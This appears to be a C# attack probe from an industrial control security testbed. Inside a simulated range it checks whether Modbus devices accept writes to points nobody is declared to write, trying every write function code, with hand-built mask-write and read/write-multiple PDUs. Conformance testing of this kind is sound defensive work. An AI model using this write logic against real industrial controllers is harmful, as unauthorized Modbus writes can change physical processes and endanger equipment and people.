using Testbed.Core;
using Testbed.Modbus;
using Testbed.Scenarios;
using ModbusTable = Testbed.Scenarios.ModbusTable;

namespace Testbed.Attacks;

/// <summary>
/// SR 2.1 RE 1, zone: a guest writes to a device that no program is declared to write, by every function code that writes. Breach: a value is held. Cells: Modbus
/// services of assets with writable points that no declared flow and no ordinary traffic writes.
/// </summary>
public sealed class WriteInReadOnly() : Probe("write-in-read-only", "SR 2.1 RE 1")
{
    /// <inheritdoc/>
    public override IEnumerable<Cell> Cells(Scenario scenario) =>
        from s in scenario.Services(ServiceProtocol.Modbus)
        where WriteTarget.Of(s.Asset, s.Service).Any() && !IsWritten(scenario, s.Asset, s.Service)
        select At(s.Asset.Zone, s.Asset.Id, $"{s.Service.Id}:writes");

    /// <inheritdoc/>
    public override async Task<AttackOutcome> RunAsync(Cell cell, IAttackRange range)
    {
        var asset = range.Scenario.Asset(cell.Asset)!;
        var service = range.Scenario.Service(asset.Id, cell.Interface.Split(':')[0]);
        using var guest = range.Network.Enter(asset.Zone, AttackRangeExtensions.Attacker);
        using var link = await ModbusLink.OpenAsync(range, AttackRangeExtensions.Attacker, asset.Id, service);
        if (link is null)
        {
            return AttackOutcome.Resisted($"{asset.Id} took no connection.");
        }

        foreach (var target in WriteTarget.Of(asset, service))
        {
            range.Act("T0855", $"{target.Point.Name} of {asset.Id}, which nobody writes, by every function code");
            var raw = target.DifferentInRange(range.Truth.Point(asset.Id, target.Point.Name));
            foreach (var pdu in Writes(target, raw))
            {
                await link.SendAsync(pdu);
                await range.WaitAsync(AttackTimes.Settle(asset));
                if (range.Holds(target, raw))
                {
                    return AttackOutcome.Succeeded($"{asset.Id} took {target.Text(raw)} by FC {Number.Text(pdu[0])}.");
                }
            }
        }

        return AttackOutcome.Resisted($"{asset.Id} took no value by any function code.");
    }

    private static bool IsWritten(Scenario scenario, AssetConfig asset, ServiceConfig service) =>
        scenario.Conduits.SelectMany(c => c.Flows).Where(f => f.To == asset.Id && f.Port == service.Port)
            .Any(f => f.Access.Count == 0 || f.Access.Any(a => a.Functions.Any(ModbusFunctionCode.Writes)))
        || scenario.Traffic.SetPointMoves.Any(m => m.To == asset.Id && m.Port == service.Port);

    /// <summary>FC 5 and 15, or 6, 16, 22 (mask write) and 23 (read/write multiple).</summary>
    private static IEnumerable<byte[]> Writes(WriteTarget target, double raw)
    {
        yield return ModbusLink.WritePdu(target, raw);
        yield return ModbusLink.WritePdu(target, raw, multiple: true);
        if (target.Point.Table == ModbusTable.Coil)
        {
            yield break;
        }

        var (high, low) = ((byte)(target.Point.Address >> 8), (byte)target.Point.Address);
        var words = target.Words(raw);
        if (words.Length == 1)
        {
            yield return [22, high, low, 0, 0, (byte)(words[0] >> 8), (byte)words[0]];
        }

        yield return
        [
            23, high, low, 0, 1, high, low, 0, (byte)words.Length, (byte)(2 * words.Length), .. words.SelectMany(w => new[] { (byte)(w >> 8), (byte)w }),
        ];
    }
}
